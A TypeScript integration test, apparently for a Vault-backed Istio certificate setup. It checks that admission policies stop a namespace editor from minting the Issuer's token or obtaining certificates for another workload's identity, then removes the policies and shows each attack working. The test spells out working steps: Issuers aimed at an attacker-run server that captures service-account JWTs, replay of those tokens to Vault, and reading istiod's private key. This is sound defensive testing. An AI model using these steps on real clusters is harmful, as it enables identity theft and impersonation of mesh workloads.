// Attacker: a user with write access to istiod's namespace: the ClusterRole `edit`, with what cert-manager's chart adds to it.
// The attacker holds: nothing in Vault, no right outside of the namespace, and no right to change admission policies.
// The file tries: to get a certificate for an identity of the mesh, or the login that cert-manager gets them with: by tokens, pods and Secrets of
// the Issuer's service account, and by CertificateRequests, Certificates and Issuers. With `certManager.admissionPolicy` the API server refuses
// each of them. Then the policies are taken away, and each attack works, so the attacks are real. The last part shows what no policy prevents.
// Real: Vault, the API server, cert-manager with the rights of its own chart. No controller manager runs, so nothing fills in the aggregated
// ClusterRole `edit`: the user is bound to the roles that it is made of. The test stands in for istio-csr, with its service account.
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { dirname, join } from 'node:path';
import type { ClusterPlan } from '../../../src/plan/plan';
import {
  buildPrograms,
  certManagerCrds,
  ensureNamespace,
  helmTemplate,
  type Kube,
  kubeconfigOf,
  ok,
  type RunResult,
  startCertManager,
  startKube,
  startVaultDev,
  until,
  type Vault,
} from '../harness';
import { makeCsr, verifyChain } from '../mesh/certificates';
import { askCertManager, base64, helmValues, istiodCertificate, unbase64 } from '../mesh/istio-csr';
import { readiness, setUp, type VaultMesh } from '../mesh/vault-mesh';
import { configs, ensureAccount } from '../world';

jest.setTimeout(120_000);

const NAMESPACE = 'istio-system';
/** The identity that the attacker wants. */
const VICTIM = 'spiffe://cluster.local/ns/bank/sa/payments';
const AUDIENCE = `vault://${NAMESPACE}/vault-issuer`;
const issuerRef = { name: 'vault-issuer', kind: 'Issuer', group: 'cert-manager.io' };

const running: { stop(): Promise<void> }[] = [];
let kube: Kube;
let vault: Vault;
let mesh: VaultMesh;
let cluster: ClusterPlan;
let istioCsr: Kube;
/** A server of the attacker's, and the service account tokens that cert-manager sent it. */
let attackersServer: string;
const stolen: string[] = [];

beforeAll(async () => {
  await buildPrograms(['vault', 'etcd', 'kube-apiserver', 'kubectl', 'certmanager', 'helm', 'istioctl']);
  vault = await startVaultDev();
  kube = await startKube();
  running.push(vault, kube, await listen());
  await ensureAccount(kube, 'cert-manager', 'cert-manager-istio-csr');
  for (const name of [NAMESPACE, 'other']) await ensureNamespace(kube, name);

  const chart = join(dirname(await certManagerCrds()), 'charts/cert-manager');
  await kube.apply(await helmTemplate(chart, 'cert-manager', { namespace: 'cert-manager', only: ['serviceaccount', 'rbac'] }));
  for (const namespace of [NAMESPACE, 'other']) {
    for (const role of ['system:aggregate-to-edit', 'system:aggregate-to-view', 'cert-manager-edit', 'cert-manager-view']) {
      const name = role.replace(':', '-');
      ok(await kube.kubectl(['create', 'rolebinding', name, '-n', namespace, `--clusterrole=${role}`, '--user=editor']));
    }
  }
  await startCertManager({ ...kube, kubeconfig: await kubeconfigOf(kube, 'cert-manager', 'cert-manager') }).then(one => running.push(one));
  // the rights that istio-csr's chart gives it.
  const rights = ['--verb=get,list,watch,create,update,delete', '--resource=certificaterequests.cert-manager.io'];
  ok(await kube.kubectl(['create', 'role', 'istio-csr', '-n', NAMESPACE, ...rights]));
  const whose = ['--role=istio-csr', '--serviceaccount=cert-manager:cert-manager-istio-csr'];
  ok(await kube.kubectl(['create', 'rolebinding', 'istio-csr', '-n', NAMESPACE, ...whose]));
  const token = ok(await kube.kubectl(['create', 'token', 'cert-manager-istio-csr', '-n', 'cert-manager'])).trim();
  istioCsr = { ...kube, request: (method, path, body) => kube.request(method, path, body, token) };

  // with the policies already there: setup.sh's self-test requests a token as an administrator.
  mesh = await setUp({ ...configs.recommended, certManager: { admissionPolicy: true } }, vault, [kube]);
  cluster = mesh.world.cluster;
  ok(await mesh.run('kubectl', ['--context', 'cluster-1', 'apply', '--validate=strict', '-f', 'dist/cluster-1/manifests/1-issuer']));
  await until('the policies to take effect', async () => (await attacks.token()).stderr.includes('denied request'));
}, 45 * 60_000);
afterAll(async () => {
  for (const one of running.reverse()) await one.stop();
});

/** A server that remembers each token that is sent to it, and refuses every login. */
async function listen(): Promise<{ stop(): Promise<void> }> {
  const server = createServer((request, response) => {
    let body = '';
    request.on('data', (part: Buffer) => (body += part.toString()));
    request.on('end', () => {
      const { jwt } = (body === '' ? {} : JSON.parse(body)) as { jwt?: string };
      if (jwt !== undefined) stolen.push(jwt);
      response.writeHead(403).end('{"errors":[]}');
    });
  });
  await new Promise<void>(resolve => server.listen(0, '127.0.0.1', resolve));
  attackersServer = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  return {
    stop: async () => {
      server.closeAllConnections();
      await new Promise(resolve => server.close(resolve));
    },
  };
}

const editor = (args: readonly string[], input?: string): Promise<RunResult> =>
  kube.kubectl(['--as=editor', ...args], input === undefined ? {} : { input });
const apply = (object: object) => editor(['apply', '-f', '-'], JSON.stringify(object));
const v1 = (kind: string, name: string, rest: object, namespace = NAMESPACE) => ({
  apiVersion: 'v1',
  kind,
  metadata: { name, namespace },
  ...rest,
});
const certManagerObject = (kind: string, name: string, spec: object, namespace = NAMESPACE) => ({
  ...v1(kind, name, { spec }, namespace),
  apiVersion: 'cert-manager.io/v1',
});
const pod = (name: string, spec: object) => v1('Pod', name, { spec: { containers: [{ name, image: 'none' }], ...spec } });
const request = async (name: string, ref: object = issuerRef, namespace = NAMESPACE) => {
  const { csr } = await makeCsr([`URI:${VICTIM}`]);
  const spec = { request: base64(csr), duration: '1h', usages: ['client auth', 'server auth'], issuerRef: ref };
  return certManagerObject('CertificateRequest', name, spec, namespace);
};
const certificate = (name: string, more: object) =>
  certManagerObject('Certificate', name, {
    secretName: name,
    duration: '1h',
    privateKey: { rotationPolicy: 'Always' },
    issuerRef,
    ...more,
  });
/** The planned Certificate of istiod, with a change. */
const istiodWith = (more: object) => {
  const planned = istiodCertificate(helmValues(mesh.dist.text('cluster-1/istio-csr.values.yml')));
  return { ...planned, spec: { ...planned.spec, ...more } };
};
/** An Issuer with the login of the planned one. */
const issuer = (name: string, more: object, account: object = {}) => {
  const role = cluster.auth.method === 'jwt' ? cluster.auth.role : '';
  const kubernetes = { mountPath: '/v1/auth/jwt-cluster-1', role, serviceAccountRef: { name: 'vault-issuer', ...account } };
  return certManagerObject('Issuer', name, { vault: { server: vault.addr, path: cluster.role.signPath, auth: { kubernetes }, ...more } });
};
const tokenSecret = (name: string, account: string) => ({
  apiVersion: 'v1',
  kind: 'Secret',
  type: 'kubernetes.io/service-account-token',
  metadata: { name, namespace: NAMESPACE, annotations: { 'kubernetes.io/service-account.name': account } },
});

/** Each thing that the attacker does, as kubectl answers it. */
const attacks = {
  token: () => editor(['create', 'token', 'vault-issuer', '-n', NAMESPACE, `--audience=${AUDIENCE}`]),
  pod: () => apply(pod('thief', { serviceAccountName: 'vault-issuer' })),
  'pod by the old field': () => apply(pod('old-thief', { serviceAccount: 'vault-issuer' })),
  'token Secret': () => apply(tokenSecret('thief', 'vault-issuer')),
  'token Secret, renamed': async () => {
    await apply(tokenSecret('renamed', 'default'));
    return apply(tokenSecret('renamed', 'vault-issuer'));
  },
  CertificateRequest: async () => apply(await request('thief')),
  'CertificateRequest without kind and group': async () => apply(await request('short-thief', { name: 'vault-issuer' })),
  'Certificate for a workload': () => apply(certificate('thief', { uris: [VICTIM] })),
  "istiod's Certificate with a workload's name": () => apply(istiodWith({ uris: [VICTIM] })),
  "istiod's Certificate with another DNS name": () => apply(istiodWith({ dnsNames: ['payments.bank.svc'] })),
  "istiod's Certificate with another common name": () => apply(istiodWith({ commonName: 'payments.bank.svc' })),
  "istiod's Certificate with an IP address": () => apply(istiodWith({ ipAddresses: ['10.0.0.1'] })),
  "istiod's Certificate as a CA": () => apply(istiodWith({ isCA: true })),
  "istiod's Certificate with a literal subject": () => apply(istiodWith({ commonName: undefined, literalSubject: 'CN=payments.bank.svc' })),
  "istiod's Certificate to another Secret": () => apply(istiodWith({ secretName: 'thief' })),
  'another Issuer with the same login': () => apply(issuer('second', {}, { audiences: [AUDIENCE] })),
  "an Issuer that sends the login to the attacker's server": () =>
    apply(issuer('listener', { server: attackersServer }, { audiences: [AUDIENCE] })),
  "the planned Issuer with the attacker's server": () => apply(issuer('vault-issuer', { server: attackersServer })),
  'an ACME Issuer with the service account': () => {
    const kubernetes = { serviceAccountRef: { name: 'vault-issuer', audiences: [AUDIENCE] } };
    const route53 = { region: 'x', role: 'x', auth: { kubernetes } };
    const acme = { server: attackersServer, privateKeySecretRef: { name: 'x' }, solvers: [{ dns01: { route53 } }] };
    return apply(certManagerObject('Issuer', 'acme', { acme }));
  },
};

describe('with the policies', () => {
  test('what the mesh needs works: the Issuer is Ready, istio-csr gets a workload signed, cert-manager renews istiod', async () => {
    await readiness(kube, ['issuer', 'vault-issuer', '-n', NAMESPACE]);
    const value = helmValues(mesh.dist.text('cluster-1/istio-csr.values.yml'));
    const { csr } = await makeCsr(['URI:spiffe://cluster.local/ns/foo/sa/sleep']);
    const { message, certificate: chain } = await askCertManager(istioCsr, value, csr);
    expect(message).toMatch(/^Certificate fetched from issuer/);
    ok(await verifyChain(chain, mesh.root));
    // the planned Certificate needs no administrator: whoever installs istio-csr's chart applies it.
    ok(await apply(istiodWith({})));
    await readiness(kube, ['certificate', 'istiod', '-n', NAMESPACE]);
    ok(await apply(istiodWith({ duration: '2h' })));
  });

  test('the planned Issuer and labels of all objects can be applied by anybody who could before', async () => {
    ok(await editor(['apply', '-f', join(mesh.world.folder, 'dist/cluster-1/manifests/1-issuer/issuer.yaml')]));
    for (const what of ['issuer/vault-issuer', 'certificate/istiod', 'serviceaccount/vault-issuer'])
      ok(await editor(['label', what, 'team=a', '-n', NAMESPACE]));
  });

  test.each(Object.keys(attacks) as (keyof typeof attacks)[])('an editor cannot use: %s', async name => {
    const { code, stderr } = await attacks[name]();
    expect({ code, stderr }).toEqual({
      code: 1,
      stderr: expect.stringMatching(/ValidatingAdmissionPolicy 'istio-system-vault-issuer-/) as string,
    });
  });

  test('a workload controller cannot create the pod either', async () => {
    const as = ['--as=system:serviceaccount:kube-system:replicaset-controller', 'create', '-f', '-'];
    const replica = (account: string) => kube.kubectl(as, { input: JSON.stringify(pod('replica', { serviceAccountName: account })) });
    expect((await replica('vault-issuer')).stderr).toContain('no pod can run as service account vault-issuer');
    ok(await replica('default'));
  });

  test('cert-manager cannot create a Certificate for a workload, as it does for the Ingress of an editor', async () => {
    const as = ['--as=system:serviceaccount:cert-manager:cert-manager', 'create', '-f', '-'];
    const { stderr } = await kube.kubectl(as, { input: JSON.stringify(certificate('ingress', { uris: [VICTIM] })) });
    expect(stderr).toContain('the only Certificate at Issuer vault-issuer is istio-system/istiod');
  });

  test('not even an administrator runs a pod as the service account, but can request a token, as setup.sh does', async () => {
    const input = JSON.stringify(pod('admin', { serviceAccountName: 'vault-issuer' }));
    expect((await kube.kubectl(['apply', '-f', '-'], { input })).stderr).toContain('no pod can run as service account vault-issuer');
    ok(await kube.kubectl(['create', 'token', 'vault-issuer', '-n', NAMESPACE]));
  });

  test('a user who can create CertificateSigningRequests cannot reach the Issuer by one', async () => {
    ok(await kube.kubectl(['create', 'clusterrole', 'csr', '--verb=create', '--resource=certificatesigningrequests.certificates.k8s.io']));
    ok(await kube.kubectl(['create', 'clusterrolebinding', 'csr', '--clusterrole=csr', '--user=signer']));
    const { csr } = await makeCsr([`URI:${VICTIM}`]);
    const sign = (signerName: string) => {
      const spec = { request: base64(csr), signerName, usages: ['client auth'] };
      const input = JSON.stringify({
        apiVersion: 'certificates.k8s.io/v1',
        kind: 'CertificateSigningRequest',
        metadata: { generateName: 'x-' },
        spec,
      });
      return kube.kubectl(['--as=signer', 'create', '-f', '-'], { input });
    };
    expect((await sign(`issuers.cert-manager.io/${NAMESPACE}.vault-issuer`)).stderr).toContain('-signing-requests');
    ok(await sign(`issuers.cert-manager.io/${NAMESPACE}.other`));
  });

  test('other Issuers, service accounts and namespaces are not affected', async () => {
    const other = { name: 'other', kind: 'Issuer', group: 'cert-manager.io' };
    ok(await apply(certManagerObject('Issuer', 'other', { selfSigned: {} })));
    ok(await apply(await request('other', other)));
    ok(await apply(await request('external', { ...issuerRef, group: 'other.example.com' })));
    ok(await apply(certificate('other', { issuerRef: other, uris: [VICTIM], isCA: true })));
    ok(await apply(pod('other', { serviceAccountName: 'default' })));
    ok(await apply(tokenSecret('other', 'default')));
    await ensureAccount(kube, NAMESPACE, 'default');
    ok(await editor(['create', 'token', 'default', '-n', NAMESPACE]));
    // the same names in another namespace.
    await ensureAccount(kube, 'other', 'vault-issuer');
    ok(await apply(await request('same', issuerRef, 'other')));
    ok(await editor(['create', 'token', 'vault-issuer', '-n', 'other']));
    ok(await apply({ ...pod('same', { serviceAccountName: 'vault-issuer' }), metadata: { name: 'same', namespace: 'other' } }));
  });

  test('an editor cannot change or delete the policies', async () => {
    for (const kind of ['validatingadmissionpolicy', 'validatingadmissionpolicybinding']) {
      const { stderr } = await editor(['delete', kind, 'istio-system-vault-issuer-tokens']);
      expect(stderr).toContain('is forbidden');
    }
  });
});

describe('what no policy prevents', () => {
  test('an editor reads the key of istiod, and gets every workload identity of the namespace by a pod', async () => {
    const { data } = JSON.parse(ok(await editor(['get', 'secret', 'istiod-tls', '-n', NAMESPACE, '-o', 'json']))) as {
      data: Record<string, string>;
    };
    expect(unbase64(data['tls.key'] ?? '')).toContain('PRIVATE KEY');
    ok(await verifyChain(unbase64(data['tls.crt'] ?? ''), mesh.root));
    ok(await apply(pod('istiod-thief', { serviceAccountName: 'istiod-service-account' })));
  });

  test('an editor stops the mesh from renewing certificates by deleting the Issuer', async () => {
    ok(await editor(['delete', 'issuer', 'vault-issuer', '-n', NAMESPACE, '--dry-run=server']));
  });
});

describe('without the policies each attack works:', () => {
  beforeAll(async () => {
    ok(await kube.kubectl(['delete', 'validatingadmissionpolicybindings', '--all']));
    await until('the policies to be gone', async () => (await attacks.token()).code === 0);
  });

  test.each(Object.keys(attacks) as (keyof typeof attacks)[])('%s', async name => {
    ok(await attacks[name]());
    if (name.startsWith("istiod's")) ok(await apply(istiodWith({})));
    if (name.startsWith('the planned')) ok(await apply(issuer('vault-issuer', {})));
  });

  test('the token logs in to Vault, and signs for a workload of another namespace', async () => {
    const jwt = ok(await attacks.token()).trim();
    const login = await vault.request('POST', 'auth/jwt-cluster-1/login', { role: 'cert-manager', jwt });
    expect(login.status).toBe(200);
    const { auth } = login.body as { auth: { client_token: string } };
    const { csr } = await makeCsr([`URI:${VICTIM}`]);
    expect((await vault.request('POST', cluster.role.signPath, { csr, ttl: '1h' }, auth.client_token)).status).toBe(200);
  });

  test('the request and the Certificate are signed, and the second Issuer logs in', async () => {
    await readiness(kube, ['certificaterequest', 'thief', '-n', NAMESPACE]);
    await readiness(kube, ['certificate', 'thief', '-n', NAMESPACE]);
    await readiness(kube, ['issuer', 'second', '-n', NAMESPACE]);
  });

  test("the token that cert-manager sends to the attacker's server logs in at the real Vault", async () => {
    const jwt = await until('cert-manager to send a token', () => Promise.resolve(stolen.at(-1)));
    const login = await vault.request('POST', 'auth/jwt-cluster-1/login', { role: 'cert-manager', jwt });
    expect(login.status).toBe(200);
  });
});
